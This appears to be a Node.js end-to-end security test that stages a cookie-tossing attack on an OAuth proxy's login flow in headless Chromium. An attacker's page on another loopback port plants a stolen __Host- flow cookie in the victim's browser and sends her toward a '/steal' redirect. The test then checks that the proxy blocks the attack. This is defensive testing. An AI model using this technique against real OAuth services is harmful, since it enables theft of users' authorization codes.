// Cookie tossing from another loopback port, in Debian's headless Chromium:
//
//   node tossed_cookie.mjs --base http://127.0.0.1:PORT [--login alice]
//
// 1. Alice authorizes an honest client once (the fake GitHub then answers her at once).
// 2. Mallory, in her own browser, approves her own client and stops at GitHub: she has the GitHub
//    URL (her `state`) and her `__Host-mcp-flow` cookie.
// 3. Alice visits Mallory's page on another port of 127.0.0.1 (plain HTTP), which sets that cookie
//    (`Secure`, `__Host-`: Chromium accepts both from http://127.0.0.1) and sends her to the URL.
//    GitHub sends her straight back to the proxy's callback with her code and Mallory's state.
// 4. Chromium carried the tossed cookie to the proxy's port, but the proxy answers with its
//    finish page and stays there: nothing reaches Mallory's redirect URI.
//
// stdout: one JSON line with what was observed.

import {
    check,
    close,
    launchChromium,
    listen,
    log,
    parseArgs,
    pkce,
    randomState,
    runMain,
    startCallbackServer,
    approveAuthorizationIn,
    waitForConsentButtons,
    CONSENT_APPROVE,
    clickAndWait
} from './lib.mjs';

const args = parseArgs(process.argv.slice(2), ['base']);
const base = new URL(args.base).origin;
const login = args.login ?? 'alice';
const FLOW_COOKIE = '__Host-mcp-flow';

async function register(name, redirectUri) {
    const resp = await fetch(`${base}/register`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
            client_name: name,
            redirect_uris: [redirectUri],
            token_endpoint_auth_method: 'none',
            grant_types: ['authorization_code']
        })
    });
    const body = await resp.json();
    check(resp.status === 201, `registration answered ${resp.status}: ${JSON.stringify(body)}`);
    return body.client_id;
}

function authorizeUrl(clientId, redirectUri) {
    const u = new URL(`${base}/authorize`);
    u.search = new URLSearchParams({
        response_type: 'code',
        client_id: clientId,
        redirect_uri: redirectUri,
        code_challenge: pkce().challenge,
        code_challenge_method: 'S256',
        state: randomState(),
        scope: 'read:user',
        resource: `${base}/mcp`
    }).toString();
    return u.href;
}

async function main() {
    const honestCb = await startCallbackServer();
    const stolen = [];
    const mallorysCb = await listen((req, res) => {
        stolen.push(req.url);
        res.writeHead(200);
        res.end('got it');
    });
    const honestId = await register('Honest E2E', honestCb.redirectUri);
    const evilId = await register('Triage Helper', `${mallorysCb.origin}/steal`);
    const browser = await launchChromium();
    const result = { chromium: browser.version() };
    try {
        // 1. Alice's own authorization, so GitHub knows her and the app.
        const alice = await browser.newContext();
        const alicePage = await alice.newPage();
        await approveAuthorizationIn(alicePage, authorizeUrl(honestId, honestCb.redirectUri), {
            login,
            clientName: 'Honest E2E',
            redirectUri: honestCb.redirectUri
        });
        log('alice authorized once');

        // 2. Mallory approves her own client and stops at GitHub.
        const mallory = await browser.newContext();
        const malloryPage = await mallory.newPage();
        await malloryPage.goto(authorizeUrl(evilId, `${mallorysCb.origin}/steal`), { waitUntil: 'load' });
        await waitForConsentButtons(malloryPage);
        await clickAndWait(malloryPage, CONSENT_APPROVE, "mallory's consent page");
        const githubUrl = malloryPage.url();
        check((await malloryPage.title()).startsWith('Sign in to GitHub'), 'mallory is at GitHub');
        const tossed = (await mallory.cookies(base)).find(c => c.name === FLOW_COOKIE);
        check(tossed, 'mallory has a flow cookie');
        await mallory.close();

        // 3. Mallory's page on another port of 127.0.0.1.
        const tossingPage = await listen((req, res) => {
            res.writeHead(303, {
                'set-cookie': `${FLOW_COOKIE}=${tossed.value}; Path=/; Secure; HttpOnly; SameSite=Lax`,
                location: githubUrl
            });
            res.end();
        });
        const callbackResponses = [];
        alicePage.on('response', r => {
            if (r.url().startsWith(`${base}/callback/github`)) callbackResponses.push(r.status());
        });
        await alicePage.goto(`${tossingPage.origin}/`, { waitUntil: 'load' });
        // Give a script every chance to go on (it must not).
        await alicePage.waitForTimeout(1500);
        const aliceFlowCookie = (await alice.cookies(base)).find(c => c.name === FLOW_COOKIE);
        result.tossed = {
            cookie_accepted_for_proxy: aliceFlowCookie?.value === tossed.value,
            cookie_port_of_setter: new URL(tossingPage.origin).port,
            final_title: await alicePage.title(),
            at_proxy_callback: alicePage.url().startsWith(`${base}/callback/github`),
            callback_statuses: callbackResponses,
            names_mallorys_client: (await alicePage.locator('.client-name .name').textContent())?.trim() ?? null,
            reached_mallorys_redirect: stolen.length
        };
        await close(tossingPage.server);
        await alice.close();
        log('tossed cookie: finish page, nothing sent to mallory');
    } finally {
        await browser.close();
        await Promise.all([close(honestCb.server), close(mallorysCb.server)]);
    }
    return result;
}

runMain(main);
